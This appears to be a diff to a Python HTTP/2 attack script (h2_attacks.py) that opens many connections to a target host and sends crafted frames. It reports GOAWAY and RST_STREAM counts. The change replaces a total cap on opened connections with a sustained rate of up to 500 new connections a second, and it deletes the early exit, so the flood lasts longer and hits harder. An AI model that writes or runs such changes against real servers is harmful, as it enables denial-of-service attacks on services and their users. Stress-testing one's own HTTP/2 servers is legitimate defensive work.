@@ -21,7 +21,7 @@ Usage: h2_attacks.py ATTACK HOST PORT [--seconds S] [--conns N] [--path P]
                 each connection, held: the server may send no DATA
   --seconds S   how long (10)
   --conns N     connections at once (10; zero-window: 100); one the server
-                closes is replaced, up to 200 * N in all
+                closes is replaced, no faster than 500 a second in all
   --path P      the path requested (/index.html; zero-window /file100k.bin)
 Prints one line: ATTACK SECONDS_RUN CONNECTIONS CLOSED_BY_SERVER FRAMES MB_SENT
 GOAWAYS(codes) RST_STREAMS."""
@@ -31,7 +31,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
 END_STREAM, END_HEADERS = 0x1, 0x4
 INITIAL_WINDOW_SIZE, MAX_FRAME = 0x4, 16384
-MAX_OPENED = 200   # connections opened in all, per connection at once
+OPEN_RATE = 500   # new connections a second, at most, after the first N
 ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
           6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
           11: "ENHANCE_YOUR_CALM"}
@@ -209,7 +209,8 @@ def main():
     conns = set()
     stats = {"opened": 0, "closed": 0, "bytes": 0, "frames": 0, "rst": 0}
     goaways = {}
-    deadline = time.monotonic() + seconds
+    start = time.monotonic()
+    deadline = start + seconds
 
     def close(c, by_server):
         sel.unregister(c.sock)
@@ -244,7 +245,8 @@ def main():
             del buf[:9 + length]
 
     while time.monotonic() < deadline:
-        while len(conns) < want and stats["opened"] < MAX_OPENED * want:
+        allowed = want + OPEN_RATE * (time.monotonic() - start)
+        while len(conns) < want and stats["opened"] < allowed:
             stats["opened"] += 1
             try:
                 s = socket.create_connection((host, port), timeout=2)
@@ -254,8 +256,6 @@ def main():
             c = Conn(s, kind(path))
             conns.add(c)
             sel.register(s, selectors.EVENT_WRITE | (selectors.EVENT_READ if c.attack.reads else 0), c)
-        if not conns and stats["opened"] >= MAX_OPENED * want:
-            break
         for key, mask in sel.select(timeout=0.1):
             c = key.data
             if c not in conns:
@@ -284,7 +284,7 @@ def main():
                 close(c, True)
     for c in list(conns):
         close(c, False)
-    ran = seconds - max(0.0, deadline - time.monotonic())
+    ran = time.monotonic() - start
     codes = ",".join(f"{k}:{v}" for k, v in sorted(goaways.items())) or "none"
     print(name, f"{ran:.1f}s", f"conns={stats['opened']}", f"closed_by_server={stats['closed']}",
           f"frames={stats['frames']}", f"sent_MB={stats['bytes'] / 1e6:.1f}", f"goaway={codes}",
